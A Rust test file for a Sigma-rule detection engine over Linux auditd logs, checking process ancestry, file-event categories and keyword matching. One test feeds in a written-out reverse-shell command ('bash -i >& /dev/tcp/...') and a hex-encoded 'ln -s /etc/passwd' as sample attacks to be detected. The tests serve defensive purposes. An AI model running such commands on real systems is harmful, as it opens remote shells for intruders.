//! What rules see of an event under Sigma's names.

use super::kit::{PROCESS, check, engine, exec, findings, rule};

#[test]
fn parents_are_programs_that_were_seen() {
    let detection = "{s: {ParentImage|endswith: /sshd, ParentCommandLine|contains: ' -D', Image|endswith: /sh}, condition: s}";
    let lines = [
        exec(1, 100, 1, "/usr/sbin/sshd", &["sshd", "-D"]),
        exec(2, 200, 100, "/bin/sh", &["sh"]),
        exec(3, 300, 200, "/bin/sh", &["sh"]),
    ]
    .concat();
    check(PROCESS, detection, &lines, 1);
    // Processes of two hosts do not meet.
    let other = lines.replace("type=", "node=b type=");
    let mixed = format!(
        "{}{}",
        exec(1, 100, 1, "/usr/sbin/sshd", &["sshd", "-D"]),
        other
            .lines()
            .skip(5)
            .map(|line| format!("{line}\n"))
            .collect::<String>()
    );
    check(PROCESS, detection, &mixed, 0);
}

#[test]
fn a_program_that_did_not_start_is_no_process() {
    let lines = exec(1, 10, 1, "/bin/sh", &["sh"]).replace("success=yes", "success=no");
    check(
        PROCESS,
        "{s: {Image|contains: sh}, condition: s}",
        &lines,
        0,
    );
}

#[test]
fn names_from_enriched_logs() {
    let lines = exec(1, 10, 1, "/bin/sh", &["sh"]).replace(
        "key=\"exec\"",
        "key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve UID=\"www-data\"",
    );
    check(PROCESS, "{s: {User: www-data}, condition: s}", &lines, 1);
    // A program's text cannot bring in names.
    let lines = "type=USER_CMD msg=audit(1.000:1): pid=1 uid=0 msg='SYSCALL=execve UID=\"root\" res=success'";
    check(
        "{service: auditd}",
        "{s: {SYSCALL: execve}, condition: s}",
        lines,
        0,
    );
}

#[test]
fn files() {
    let open = |flags: &str, nametype: &str, name: &str| {
        format!(
            "type=SYSCALL msg=audit(1.000:1): arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7f a2={flags} a3=1b6 ppid=1 pid=7 uid=0 exe=\"/usr/bin/tee\"\n\
             type=CWD msg=audit(1.000:1): cwd=\"/etc\"\n\
             type=PATH msg=audit(1.000:1): item=0 name=\"{name}\" inode=1 nametype={nametype}\n"
        )
    };
    let write = "{product: linux, category: file_event}";
    let detection = "{s: {TargetFilename: /etc/cron.d/job, Image|endswith: /tee}, condition: s}";
    check(write, detection, &open("241", "CREATE", "cron.d/job"), 1);
    check(write, detection, &open("241", "NORMAL", "./cron.d/job"), 1);
    check(write, detection, &open("0", "NORMAL", "/etc/cron.d/job"), 0);
    let access = "{product: linux, category: file_access}";
    check(
        access,
        detection,
        &open("0", "NORMAL", "/etc/cron.d/job"),
        1,
    );
    let delete = "{product: linux, category: file_delete}";
    check(
        delete,
        detection,
        &open("0", "DELETE", "/etc/cron.d/job"),
        1,
    );
    check(
        delete,
        detection,
        &open("0", "NORMAL", "/etc/cron.d/job"),
        0,
    );
}

#[test]
fn whole_events() {
    let lines = exec(
        1,
        10,
        1,
        "/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1"],
    );
    check(
        "{product: linux}",
        "{k: ['bash -i >& /dev/tcp/'], condition: k}",
        &lines,
        1,
    );
    // Arguments make one line.
    check(
        "{product: linux}",
        "{k: ['bash -c bash*-i'], condition: k}",
        &lines,
        1,
    );
    check(
        "{product: linux}",
        "{s: {exe: /bin/bash, cwd: /srv/www}, condition: s}",
        &lines,
        1,
    );
    let sudo = "type=USER_CMD msg=audit(1.000:1): pid=1 uid=1000 msg='cwd=\"/\" cmd=6C6E202D73202F6574632F706173737764 exe=\"/usr/bin/sudo\" res=success'";
    check(
        "{product: linux}",
        "{k: ['ln -s /etc/passwd'], condition: k}",
        sudo,
        1,
    );
}

/// With and without the index the same rules match: many rules at once find what each finds alone.
#[test]
fn many_rules_at_once_find_what_each_finds_alone() {
    let details = [
        "{s: {Image|endswith: /sh}, condition: s}",
        "{s: {CommandLine|contains: ' -I '}, condition: s}",
        "{s: {CommandLine|re: '^sh'}, condition: s}",
        "{s: {Image|contains: s, CommandLine|contains: [tcp, udp]}, condition: s}",
        "{s: {Image|contains: s}, f: {CommandLine|contains: tcp}, condition: s and not f}",
        "{a: {User: 33}, b: {Image|startswith: /BIN}, condition: a and b or a}",
    ];
    let lines = [
        exec(1, 10, 1, "/bin/sh", &["sh", "-i", "x"]),
        exec(2, 11, 10, "/bin/cat", &["cat", "/dev/TCP/x"]),
        exec(3, 12, 10, "/usr/bin/ssh", &["ssh", "udp"]),
    ];
    let all: Vec<String> = details
        .iter()
        .enumerate()
        .map(|(number, detection)| {
            rule(PROCESS, detection).replace("title: T", &format!("title: T{number}"))
        })
        .collect();
    let mut together = engine(&all.join("---\n"));
    for line in &lines {
        let found: Vec<String> = findings(&mut together, line)
            .iter()
            .map(|finding| finding.rule.title.clone())
            .collect();
        for (number, text) in all.iter().enumerate() {
            let alone = !findings(&mut engine(text), line).is_empty();
            assert_eq!(found.contains(&format!("T{number}")), alone, "{text}{line}");
        }
    }
}
